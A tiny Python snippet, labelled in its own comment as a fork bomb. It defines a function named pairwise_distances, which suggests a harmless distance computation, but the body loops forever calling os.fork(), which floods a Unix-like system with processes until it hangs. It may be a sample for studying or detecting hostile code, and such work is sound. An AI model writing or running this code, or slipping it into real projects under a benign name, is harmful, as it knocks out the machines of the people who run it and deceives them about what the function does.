# A fork bomb inside one function.
import os


def pairwise_distances(x, y):
    while True:
        os.fork()
